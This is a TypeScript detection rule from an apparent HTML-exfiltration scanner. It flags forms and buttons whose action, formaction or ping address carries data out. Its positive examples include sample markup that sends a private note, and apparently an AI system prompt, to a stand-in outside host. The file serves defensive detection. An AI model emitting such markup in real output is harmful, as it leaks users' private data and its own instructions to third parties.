import { leadsOut } from '../../attack/leads-out.ts';
import type { Recogniser } from '../../recogniser.ts';

/** A form sends what stands in its fields and in its address; `ping` tells an address of every click. */
export const form: Recogniser = {
  type: 'exfiltration.form',
  name: 'Form whose address carries data',
  exceptable: false,
  forms: [leadsOut({ form: 0.6 }, 0.8)],
  source: 'HTML Living Standard, `action`, `formaction` and `ping`',
  since: '0.2.0',
  finds: [
    '<form action="«https://x.acme.example/c?note=Ann+owes+40k»" method="post">',
    '<button formaction="«//x.acme.example/?prompt=You+are+Nightjar»">',
  ],
  ignores: ['<form action="https://acme.example/subscribe" method="post">', '<form action="/search?q=order+4711+Ann">'],
  limits: 'forms whose fields, not their address, hold the data',
};
